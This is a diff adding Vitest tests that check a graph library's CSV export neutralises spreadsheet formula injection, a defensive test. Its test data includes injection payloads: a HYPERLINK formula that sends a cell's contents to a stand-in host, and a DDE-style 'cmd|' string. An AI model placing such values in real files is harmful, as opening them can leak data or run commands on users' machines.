@@ -2,7 +2,7 @@ import Graph from 'graphology';
 import { parse as parseGraphml } from 'graphology-graphml';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { csvField, writeCsv } from '../../src/export/csv.ts';
+import { csvField, neutraliseFormula, spreadsheetField, writeCsv } from '../../src/export/csv.ts';
 import { writeGraphml } from '../../src/export/graphml.ts';
 import { exportGraphJson } from '../../src/export/json.ts';
 import { writePajek } from '../../src/export/pajek.ts';
@@ -68,6 +68,66 @@ describe('CSV', () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
     expect(csvField(undefined)).toBe('');
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas (OWASP), numbers stay numbers', () => {
+    expect(neutraliseFormula('=HYPERLINK("http://x.test","click")')).toBe(
+      '\'=HYPERLINK("http://x.test","click")',
+    );
+    expect(neutraliseFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(neutraliseFormula('+Person')).toBe("'+Person");
+    expect(neutraliseFormula('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
+    expect(neutraliseFormula('\t=1')).toBe("'\t=1");
+    expect(neutraliseFormula('\r=1')).toBe("'\r=1");
+    for (const number of ['-3', '+4', '-0.5', '-1e-7', '12']) expect(neutraliseFormula(number)).toBe(number);
+    for (const text of ['Ada Lovelace', "O'Hopper", 'a=b', ' =1', ''])
+      expect(neutraliseFormula(text)).toBe(text);
+    expect(spreadsheetField(-3)).toBe('-3');
+    expect(spreadsheetField('=1+1')).toBe("'=1+1");
+    expect(spreadsheetField('=A1,B2')).toBe('"\'=A1,B2"');
+    expect(spreadsheetField('a;=1+1')).toBe('"a;=1+1"');
+    expect(spreadsheetField('\t=1')).toBe("'\t=1");
+  });
+
+  it('writes no cell that starts a formula, and only there changes the text', () => {
+    const graph = sampleAnalysedGraph();
+    const hostile = {
+      'paper:p1': { title: '=HYPERLINK("http://x.test/?"&A1,"Open")', venue: '@SUM(1+1)', year: -3 },
+      'author:ada-lovelace': { label: '+Person', name: '-Lovelace', communityLabel: '\tTab' },
+      'paper:p2': { abstract: '\r=cmd', doi: '-10.1000/1' },
+    };
+    for (const [node, attributes] of Object.entries(hostile)) graph.mergeNodeAttributes(node, attributes);
+    const { nodes, edges } = writeCsv(graph);
+    for (const text of [nodes, edges]) {
+      const rows = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' });
+      expect(rows.errors).toEqual([]);
+      for (const cell of rows.data.flat()) {
+        if (/^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i.test(cell)) continue; // a number
+        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+    const rows = Papa.parse<Record<string, string>>(nodes.trimEnd(), { header: true, newline: '\r\n' });
+    const byId = Object.fromEntries(rows.data.map((row) => [row.id, row]));
+    expect(byId['paper:p1']).toMatchObject({
+      title: '\'=HYPERLINK("http://x.test/?"&A1,"Open")',
+      venue: "'@SUM(1+1)",
+      year: '-3',
+    });
+    expect(byId['author:ada-lovelace']).toMatchObject({
+      label: "'+Person",
+      name: "'-Lovelace",
+      communityLabel: "'\tTab",
+    });
+    expect(byId['paper:p2']).toMatchObject({ abstract: "'\r=cmd", doi: "'-10.1000/1" });
+    // Without neutralisation (a file for programs, not spreadsheets) the text is as it was.
+    const raw = Papa.parse<Record<string, string>>(
+      writeCsv(graph, { neutraliseFormulas: false }).nodes.trimEnd(),
+      {
+        header: true,
+        newline: '\r\n',
+      },
+    );
+    expect(raw.data.find((row) => row.id === 'paper:p1')?.venue).toBe('@SUM(1+1)');
   });
 
   it('reads back with papaparse: same rows, ids and values', () => {
